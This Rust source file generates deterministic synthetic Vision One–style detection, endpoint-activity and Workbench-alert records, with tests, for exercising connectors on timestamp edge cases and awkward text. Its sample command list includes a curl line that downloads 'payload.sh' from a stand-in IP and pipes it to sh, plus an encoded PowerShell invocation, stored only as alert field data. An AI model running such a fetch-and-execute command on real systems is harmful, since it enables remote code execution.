//! Deterministic detections, endpoint activities and Workbench alerts shaped like Vision One's,
//! seeded with what connectors must survive: records exactly on hour edges and in the last
//! half-second and millisecond of an hour, groups sharing one timestamp (one of them on an edge),
//! CSV-hostile text, list fields, nested objects, fields that first appear after a few hours, and
//! `eventTime` sometimes written as a string.

use serde_json::{Map, Value, json};

use crate::rng::SplitMix64;
use crate::timefmt::rfc3339_utc;

const HOUR_MS: i64 = 3_600_000;

/// Detections before this many hours into the dataset are all TippingPoint ones, so that the
/// endpoint and email fields first appear in a later window.
pub const PTP_ONLY_HOURS: i64 = 2;

/// The three lists the API serves.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Stream {
    Detections,
    EndpointActivities,
    WorkbenchAlerts,
}

impl Stream {
    pub const ALL: [Stream; 3] = [
        Stream::Detections,
        Stream::EndpointActivities,
        Stream::WorkbenchAlerts,
    ];

    /// The route that serves it.
    pub fn path(self) -> &'static str {
        match self {
            Stream::Detections => "/v3.0/search/detections",
            Stream::EndpointActivities => "/v3.0/search/endpointActivities",
            Stream::WorkbenchAlerts => "/v3.0/workbench/alerts",
        }
    }

    /// A file-name-friendly name (`detections`, `endpoint_activities`, `workbench_alerts`).
    pub fn file_stem(self) -> &'static str {
        match self {
            Stream::Detections => "detections",
            Stream::EndpointActivities => "endpoint_activities",
            Stream::WorkbenchAlerts => "workbench_alerts",
        }
    }
}

/// One record and the keys trawl orders it by.
#[derive(Debug, Clone, PartialEq)]
pub struct Item {
    /// `uuid` of a search record, `id` of an alert.
    pub id: String,
    /// `eventTime` of a search record, `createdDateTime` of an alert, in milliseconds.
    pub time_ms: i64,
    /// The record exactly as served.
    pub json: Value,
}

impl Item {
    /// An alert's date field (`createdDateTime`, `updatedDateTime`, `firstInvestigatedDateTime`)
    /// in milliseconds; `None` when it is null.
    pub fn date_ms(&self, field: &str) -> Option<i64> {
        parse_iso_millis(self.json.get(field)?.as_str()?)
    }
}

/// Every list, each sorted by `(time_ms, id)`, the order trawl writes records in.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct Dataset {
    pub detections: Vec<Item>,
    pub endpoint_activities: Vec<Item>,
    pub alerts: Vec<Item>,
}

impl Dataset {
    /// Records covering `[start_unix, start_unix + days * 86400)`; the same arguments always give
    /// the same records. Each hour holds `per_hour` detections (at least three: one exactly on
    /// the hour, one at `hh:59:59.500` and one at `hh:59:59.999`), half as many endpoint
    /// activities (at least three, placed the same way) and a quarter as many alerts (at least
    /// one, exactly on the hour). On top: three detections and three activities sharing one
    /// instant every fifth hour, two more detections on the edge `start + 2h`, and two alerts
    /// created in the same second every fourth hour.
    pub fn generate(start_unix: i64, days: u32, per_hour: u32, seed: u64) -> Dataset {
        let mut generator = Generator {
            start_ms: start_unix * 1000,
            rng: SplitMix64::new(seed),
        };
        let hours = i64::from(days) * 24;
        let mut dataset = Dataset {
            detections: generator.detections(hours, per_hour.max(3)),
            endpoint_activities: generator.activities(hours, (per_hour / 2).max(3)),
            alerts: generator.alerts(hours, (per_hour / 4).max(1)),
        };
        for items in [
            &mut dataset.detections,
            &mut dataset.endpoint_activities,
            &mut dataset.alerts,
        ] {
            items.sort_by(|a, b| (a.time_ms, &a.id).cmp(&(b.time_ms, &b.id)));
        }
        dataset
    }

    pub fn items(&self, stream: Stream) -> &[Item] {
        match stream {
            Stream::Detections => &self.detections,
            Stream::EndpointActivities => &self.endpoint_activities,
            Stream::WorkbenchAlerts => &self.alerts,
        }
    }

    /// Records with `from_ms <= time_ms < to_ms`, in `(time_ms, id)` order.
    pub fn between(&self, stream: Stream, from_ms: i64, to_ms: i64) -> Vec<&Item> {
        let items = self.items(stream);
        let lo = items.partition_point(|item| item.time_ms < from_ms);
        let hi = items.partition_point(|item| item.time_ms < to_ms).max(lo);
        items[lo..hi].iter().collect()
    }

    /// One JSON object a line, in dataset order.
    pub fn to_json_lines(&self, stream: Stream) -> String {
        self.items(stream)
            .iter()
            .map(|item| format!("{}\n", item.json))
            .collect()
    }
}

/// Milliseconds of `YYYY-MM-DDThh:mm:ss[.fff](Z|+00:00)`, the forms this dataset writes.
pub fn parse_iso_millis(text: &str) -> Option<i64> {
    let (date, rest) = text.split_at_checked(10)?;
    let day = crate::timefmt::parse_date(date)?;
    let rest = rest.strip_prefix('T')?;
    let clock = rest.get(..8)?;
    let mut parts = clock.split(':').map(|part| part.parse::<i64>().ok());
    let (h, m, s) = (parts.next()??, parts.next()??, parts.next()??);
    let tail = &rest[8..];
    let (millis, zone) = match tail.strip_prefix('.') {
        Some(fraction) => {
            let digits = fraction.bytes().take_while(u8::is_ascii_digit).count();
            if digits == 0 {
                return None;
            }
            let value: i64 = fraction.get(..digits.min(3))?.parse().ok()?;
            let scale = [100, 10, 1][digits.min(3) - 1];
            (value * scale, &fraction[digits..])
        }
        None => (0, tail),
    };
    if zone != "Z" && zone != "+00:00" {
        return None;
    }
    Some((day + h * 3600 + m * 60 + s) * 1000 + millis)
}

/// `YYYY-MM-DDThh:mm:ss.fffZ`.
fn iso_millis(ms: i64) -> String {
    let seconds = rfc3339_utc(ms.div_euclid(1000));
    format!(
        "{}.{:03}Z",
        seconds.trim_end_matches('Z'),
        ms.rem_euclid(1000)
    )
}

/// `YYYY-MM-DDThh:mm:ss+00:00`, the other form `eventTimeDT` takes in samples.
fn iso_offset(ms: i64) -> String {
    format!(
        "{}+00:00",
        rfc3339_utc(ms.div_euclid(1000)).trim_end_matches('Z')
    )
}

struct Generator {
    start_ms: i64,
    rng: SplitMix64,
}

const HOSTS: &[&str] = &[
    "LAPTOP-7QK2M1",
    "srv-db-01",
    "WS-FIN-0042",
    "mac-design-3",
    "srv-web-02",
];
const USERS: &[&str] = &["CORP\\akira", "CORP\\beatriz", "CORP\\chen", "SYSTEM"];
const RULES: &[(&str, &str, &str)] = &[
    (
        "40866",
        "40866: HTTP: Apache Log4j Remote Code Execution Vulnerability",
        "CVE-2021-44228",
    ),
    (
        "39941",
        "39941: HTTP: Microsoft Exchange Server Remote Code Execution",
        "CVE-2021-26855",
    ),
    (
        "42301",
        "42301: SMB: Suspicious NTLM Relay Attempt",
        "CVE-2023-23397",
    ),
];
const COMMANDS: &[&str] = &[
    "\"C:\\Windows\\System32\\cmd.exe\" /c echo \"a,b\" > %TEMP%\\x.txt",
    "powershell.exe -NoProfile -EncodedCommand SQBFAFgA",
    "C:\\Program Files\\App\\app.exe --flag=1,2",
    "/usr/bin/curl -s http://198.51.100.7/payload.sh\n| sh",
];

impl Generator {
    /// Instants for one list: per hour, one on the edge, one at `:59:59.500`, one at
    /// `:59:59.999`, the rest spread out; `group` equal instants every fifth hour.
    fn instants(&mut self, hours: i64, per_hour: u32, group: usize) -> Vec<i64> {
        let mut instants = Vec::new();
        for hour in 0..hours {
            let edge = self.start_ms + hour * HOUR_MS;
            instants.push(edge);
            instants.push(edge + HOUR_MS - 500);
            instants.push(edge + HOUR_MS - 1);
            for _ in 3..per_hour {
                instants.push(edge + 1 + self.rng.below(HOUR_MS as u64 - 1_000) as i64);
            }
            if hour % 5 == 2 {
                let at = edge + 1 + self.rng.below(HOUR_MS as u64 - 1_000) as i64;
                instants.extend(std::iter::repeat_n(at, group));
            }
        }
        instants.sort_unstable();
        instants
    }

    fn uuid(&mut self) -> String {
        let a = self.rng.next_u64();
        let b = self.rng.next_u64();
        format!(
            "{:08x}-{:04x}-4{:03x}-{:04x}-{:012x}",
            a >> 32,
            (a >> 16) & 0xffff,
            a & 0xfff,
            0x8000 | ((b >> 48) & 0x3fff),
            b & 0xffff_ffff_ffff
        )
    }

    fn ip(&mut self, block: &str) -> String {
        format!("{block}.{}", 1 + self.rng.below(254))
    }

    fn detections(&mut self, hours: i64, per_hour: u32) -> Vec<Item> {
        let mut instants = self.instants(hours, per_hour, 3);
        if hours > 2 {
            // Three detections on one hour edge, which two adjacent windows both ask about.
            instants.extend([self.start_ms + 2 * HOUR_MS; 2]);
            instants.sort_unstable();
        }
        instants
            .into_iter()
            .enumerate()
            .map(|(index, at)| self.detection(index, at))
            .collect()
    }

    fn detection(&mut self, index: usize, at: i64) -> Item {
        let uuid = self.uuid();
        let early = at < self.start_ms + PTP_ONLY_HOURS * HOUR_MS;
        let roll = self.rng.below(10);
        let mut record = Map::new();
        let received = at + 200 + self.rng.below(5_000) as i64;
        // The samples type eventTime as a number; some schemas as a string.
        let event_time = if index % 13 == 12 {
            json!(at.to_string())
        } else {
            json!(at)
        };
        record.insert("uuid".into(), json!(uuid));
        record.insert("eventTime".into(), event_time);
        let event_time_dt = if index.is_multiple_of(2) {
            iso_millis(at)
        } else {
            iso_offset(at)
        };
        record.insert("eventTimeDT".into(), json!(event_time_dt));
        record.insert("logReceivedTime".into(), json!(received.to_string()));
        record.insert("searchDL".into(), json!("SDL"));
        record.insert("aggregatedCount".into(), json!(1 + self.rng.below(3)));
        let severity = *self.rng.pick(&["low", "medium", "high", "critical"]);
        record.insert("severity".into(), json!(severity));
        if early || roll < 6 {
            let (rule_id, rule_name, cve) = *self.rng.pick(RULES);
            let act = match self.rng.below(10) {
                0..=5 => json!(["Block"]),
                6..=7 => json!(["Permit"]),
                _ => json!(["Block", "Notify"]),
            };
            let src = self.ip("198.51.100");
            let dst = self.ip("10.20.30");
            record.insert("productCode".into(), json!("ptp"));
            record.insert("pname".into(), json!("TippingPoint"));
            record.insert("pver".into(), json!("6.1.0"));
            record.insert("eventName".into(), json!("INTRUSION_DETECTION"));
            record.insert("eventSourceType".into(), json!(3));
            record.insert("ruleName".into(), json!(rule_name));
            record.insert(
                "ruleUuid".into(),
                json!(format!("00000001-0000-0001-0000-0000000{rule_id}")),
            );
            record.insert("subRuleId".into(), json!(rule_id));
            record.insert("policyId".into(), json!("a1b2c3"));
            record.insert("category".into(), json!("Vulnerability"));
            record.insert("filterRiskLevel".into(), json!(severity));
            record.insert("act".into(), act);
            record.insert("app".into(), json!("HTTP"));
            record.insert(
                "overSsl".into(),
                json!(if roll.is_multiple_of(2) { "No" } else { "Yes" }),
            );
            record.insert("cves".into(), json!([cve]));
            record.insert("src".into(), json!([src]));
            record.insert("spt".into(), json!(1024 + self.rng.below(60_000)));
            record.insert("dst".into(), json!([dst]));
            record.insert("dpt".into(), json!(*self.rng.pick(&[80, 443, 445, 8080])));
            record.insert("endpointIp".into(), json!([dst]));
            record.insert("interestedIp".into(), json!([dst]));
            record.insert("dvchost".into(), json!("tps-edge-01"));
            record.insert(
                "deviceGUID".into(),
                json!("8a7b6c5d-4e3f-2a1b-0c9d-8e7f6a5b4c3d"),
            );
            record.insert(
                "mpname".into(),
                json!("TippingPoint Security Management System"),
            );
            record.insert("rt".into(), json!(at.to_string()));
            record.insert("rt_utc".into(), json!(iso_millis(at)));
            record.insert("logKey".into(), json!(format!("ptp-{}", &uuid[..8])));
            // Fields beyond the seed's fixed list.
            record.insert("tags".into(), json!(["XSAE.F7425", "MITRE.T1190"]));
            if roll.is_multiple_of(3) {
                record.insert("shost".into(), json!(format!("client-{}", &uuid[..4])));
            }
        } else if roll < 9 {
            let host = *self.rng.pick(HOSTS);
            let ip = self.ip("10.1.2");
            let second_ip = self.ip("172.16.0");
            let guid = self.uuid();
            record.insert("productCode".into(), json!("sao"));
            record.insert("pname".into(), json!("Apex One as a Service"));
            record.insert("eventName".into(), json!("MALWARE_DETECTION"));
            record.insert("eventSourceType".into(), json!(1));
            record.insert("endpointHostName".into(), json!(host));
            record.insert("endpointGUID".into(), json!(guid));
            record.insert("endpointIp".into(), json!([ip, second_ip]));
            record.insert("interestedIp".into(), json!([ip]));
            record.insert("fileName".into(), json!(["invoice,2024.pdf.exe", "x.dll"]));
            record.insert("filePath".into(), json!("C:\\Users\\akira\\Downloads\\"));
            record.insert(
                "fileHashSha256".into(),
                json!(format!("{:016x}", self.rng.next_u64()).repeat(4)),
            );
            record.insert("processCmd".into(), json!(*self.rng.pick(COMMANDS)));
            record.insert("malName".into(), json!("TROJ_GEN.R002C0DKK24"));
            record.insert(
                "act".into(),
                json!([*self.rng.pick(&["Quarantine", "Clean", "Block"])]),
            );
            record.insert("tags".into(), json!(["XSAE.F2140", "MITRE.T1204.002"]));
            record.insert("objectUser".into(), json!(*self.rng.pick(USERS)));
        } else {
            record.insert("productCode".into(), json!("sca"));
            record.insert("pname".into(), json!("Cloud App Security"));
            record.insert("eventName".into(), json!("EMAIL_THREAT"));
            record.insert("eventSubName".into(), json!("Phishing"));
            record.insert("eventSourceType".into(), json!(2));
            record.insert(
                "mailMsgSubject".into(),
                json!("Re: \"Q3 invoice\", please review\r\nurgent"),
            );
            record.insert("suid".into(), json!("akira@example.org"));
            record.insert("act".into(), json!(["Quarantine"]));
            record.insert("malName".into(), json!("Phish.Generic"));
        }
        Item {
            id: uuid,
            time_ms: at,
            json: Value::Object(record),
        }
    }

    fn activities(&mut self, hours: i64, per_hour: u32) -> Vec<Item> {
        self.instants(hours, per_hour, 3)
            .into_iter()
            .map(|at| {
                let uuid = self.uuid();
                let host = *self.rng.pick(HOSTS);
                let ip = self.ip("10.1.2");
                let user = *self.rng.pick(USERS);
                let event_id = 1 + self.rng.below(10);
                let hash = format!("{:016x}", self.rng.next_u64()).repeat(4);
                let mut record = Map::new();
                record.insert("uuid".into(), json!(uuid));
                record.insert("eventTime".into(), json!(at));
                record.insert("eventTimeDT".into(), json!(iso_millis(at)));
                record.insert("endpointHostName".into(), json!(host));
                record.insert(
                    "endpointGuid".into(),
                    json!(format!("guid-{}", host.to_lowercase())),
                );
                record.insert("endpointIp".into(), json!([ip]));
                record.insert("eventId".into(), json!(event_id.to_string()));
                record.insert("eventSubId".into(), json!(self.rng.below(5)));
                record.insert("logonUser".into(), json!([user]));
                record.insert("processCmd".into(), json!(*self.rng.pick(COMMANDS)));
                record.insert("objectCmd".into(), json!(*self.rng.pick(COMMANDS)));
                record.insert("objectFileHashSha256".into(), json!(hash));
                record.insert("productCode".into(), json!("xes"));
                record.insert("pname".into(), json!("Endpoint Sensor"));
                record.insert("tags".into(), json!([]));
                Item {
                    id: uuid,
                    time_ms: at,
                    json: Value::Object(record),
                }
            })
            .collect()
    }

    fn alerts(&mut self, hours: i64, per_hour: u32) -> Vec<Item> {
        let mut instants = Vec::new();
        for hour in 0..hours {
            let edge = self.start_ms + hour * HOUR_MS;
            instants.push(edge);
            for _ in 1..per_hour {
                instants.push(edge + 1000 * (1 + self.rng.below(3_598)) as i64);
            }
            if hour % 4 == 1 {
                let at = edge + 1000 * (1 + self.rng.below(3_598)) as i64;
                instants.extend([at, at]);
            }
        }
        instants.sort_unstable();
        let mut per_day = std::collections::HashMap::<String, u32>::new();
        instants
            .into_iter()
            .map(|at| {
                let created = rfc3339_utc(at / 1000);
                let day = created[..10].replace('-', "");
                let number = per_day.entry(day.clone()).or_default();
                *number += 1;
                let id = format!("WB-9002-{day}-{:05}", *number);
                let updated = at + 1000 * self.rng.below(3 * 3600) as i64;
                let investigated = (self.rng.below(3) > 0)
                    .then(|| json!(rfc3339_utc((at / 1000) + self.rng.below(7200) as i64)));
                let severity = *self.rng.pick(&["low", "medium", "high", "critical"]);
                let host = *self.rng.pick(HOSTS);
                let ip = self.ip("10.1.2");
                let model = *self.rng.pick(&[
                    "Possible Credential Dumping via Registry",
                    "Suspicious PowerShell Execution",
                    "Ransomware Behavior Detection",
                ]);
                let alert = json!({
                    "id": id,
                    "schemaVersion": "1.12",
                    "investigationStatus": "New",
                    "status": *self.rng.pick(&["Open", "In Progress", "Closed"]),
                    "investigationResult": "No Findings",
                    "workbenchLink": format!("https://portal.xdr.trendmicro.com/index.html#/workbench/alerts/{id}"),
                    "alertProvider": if severity == "low" { "TI" } else { "SAE" },
                    "model": model,
                    "modelId": format!("{:08x}-0000-4000-8000-000000000001", self.rng.below(1 << 31)),
                    "modelType": "preset",
                    "score": self.rng.below(100),
                    "severity": severity,
                    "createdDateTime": created,
                    "updatedDateTime": rfc3339_utc(updated / 1000),
                    "firstInvestigatedDateTime": investigated,
                    "incidentId": format!("IC-9002-{day}-{:05}", *number),
                    "caseId": Value::Null,
                    "impactScope": {
                        "desktopCount": 1,
                        "serverCount": 0,
                        "accountCount": 1,
                        "emailAddressCount": 0,
                        "entities": [
                            {"entityId": format!("{host}-id"), "entityType": "host",
                             "entityValue": {"guid": format!("guid-{}", host.to_lowercase()),
                                             "name": host, "ips": [ip]},
                             "relatedEntities": [], "relatedIndicatorIds": [1], "provenance": ["Alert"]}
                        ]
                    },
                    "indicators": [
                        {"id": 1, "type": "command_line", "field": "processCmd",
                         "value": *self.rng.pick(COMMANDS), "relatedEntities": [format!("{host}-id")],
                         "provenance": ["Alert"]}
                    ],
                    "matchedRules": [
                        {"id": "rule-1", "name": model, "matchedFilters": [
                            {"id": "filter-1", "name": "Credential Access", "matchedDateTime": created,
                             "mitreTechniqueIds": ["T1003"], "matchedEvents": []}
                        ]}
                    ]
                });
                Item {
                    id,
                    time_ms: at,
                    json: alert,
                }
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use std::collections::{BTreeMap, HashSet};

    use super::*;

    const START: i64 = 1_729_382_400; // 2024-10-20T00:00:00Z

    fn dataset() -> Dataset {
        Dataset::generate(START, 2, 12, 5)
    }

    #[test]
    fn deterministic_sorted_and_unique() {
        assert_eq!(dataset(), dataset());
        assert_ne!(dataset(), Dataset::generate(START, 2, 12, 6));
        for stream in Stream::ALL {
            let items = dataset().items(stream).to_vec();
            assert!(!items.is_empty());
            assert!(
                items
                    .windows(2)
                    .all(|pair| (pair[0].time_ms, &pair[0].id) < (pair[1].time_ms, &pair[1].id))
            );
            let ids: HashSet<_> = items.iter().map(|item| &item.id).collect();
            assert_eq!(ids.len(), items.len(), "{stream:?}");
            assert!(
                items.iter().all(|item| item.time_ms >= START * 1000
                    && item.time_ms < (START + 2 * 86_400) * 1000)
            );
        }
    }

    #[test]
    fn edges_last_instants_and_equal_groups() {
        let data = dataset();
        for stream in [Stream::Detections, Stream::EndpointActivities] {
            let times: Vec<i64> = data.items(stream).iter().map(|item| item.time_ms).collect();
            for hour in 0..48 {
                let edge = (START + hour * 3600) * 1000;
                assert!(times.contains(&edge), "{stream:?} hour {hour}");
                assert!(times.contains(&(edge + HOUR_MS - 500)));
                assert!(times.contains(&(edge + HOUR_MS - 1)));
            }
            let mut counts = BTreeMap::<i64, usize>::new();
            for time in times {
                *counts.entry(time).or_default() += 1;
            }
            assert!(counts.values().filter(|&&n| n >= 3).count() >= 9);
        }
        let on_edge = data
            .detections
            .iter()
            .filter(|item| item.time_ms == (START + 7200) * 1000)
            .count();
        assert_eq!(on_edge, 3);
        let alert_times: Vec<i64> = data.alerts.iter().map(|item| item.time_ms).collect();
        assert!(alert_times.windows(2).any(|pair| pair[0] == pair[1]));
        assert!(alert_times.contains(&((START + 3600) * 1000)));
    }

    #[test]
    fn records_carry_their_keys() {
        let data = dataset();
        for item in &data.detections {
            assert_eq!(item.json["uuid"], json!(item.id));
            let time = match &item.json["eventTime"] {
                Value::String(text) => text.parse().unwrap(),
                other => other.as_i64().unwrap(),
            };
            assert_eq!(time, item.time_ms);
            let dt = item.json["eventTimeDT"].as_str().unwrap();
            assert_eq!(parse_iso_millis(dt).map(|ms| ms / 1000), Some(time / 1000));
        }
        assert!(
            data.detections
                .iter()
                .any(|item| item.json["eventTime"].is_string())
        );
        for item in &data.alerts {
            assert_eq!(item.json["id"], json!(item.id));
            assert_eq!(item.date_ms("createdDateTime"), Some(item.time_ms));
            assert!(item.date_ms("updatedDateTime").unwrap() >= item.time_ms);
        }
        assert!(
            data.alerts
                .iter()
                .any(|item| item.date_ms("firstInvestigatedDateTime").is_none())
        );
        let early_end = (START + PTP_ONLY_HOURS * 3600) * 1000;
        assert!(
            data.between(Stream::Detections, START * 1000, early_end)
                .iter()
                .all(|item| item.json["productCode"] == "ptp")
        );
        assert!(
            data.detections
                .iter()
                .any(|item| item.json["productCode"] == "sao")
        );
    }

    #[test]
    fn parses_the_forms_it_writes() {
        assert_eq!(
            parse_iso_millis("2024-10-20T01:02:03.456Z"),
            Some((START + 3723) * 1000 + 456)
        );
        assert_eq!(
            parse_iso_millis("2024-10-20T01:02:03+00:00"),
            Some((START + 3723) * 1000)
        );
        assert_eq!(
            parse_iso_millis("2024-10-20T01:02:03Z"),
            Some((START + 3723) * 1000)
        );
        assert_eq!(parse_iso_millis("2024-10-20 01:02:03Z"), None);
        assert_eq!(
            iso_millis((START + 3723) * 1000 + 7),
            "2024-10-20T01:02:03.007Z"
        );
    }
}
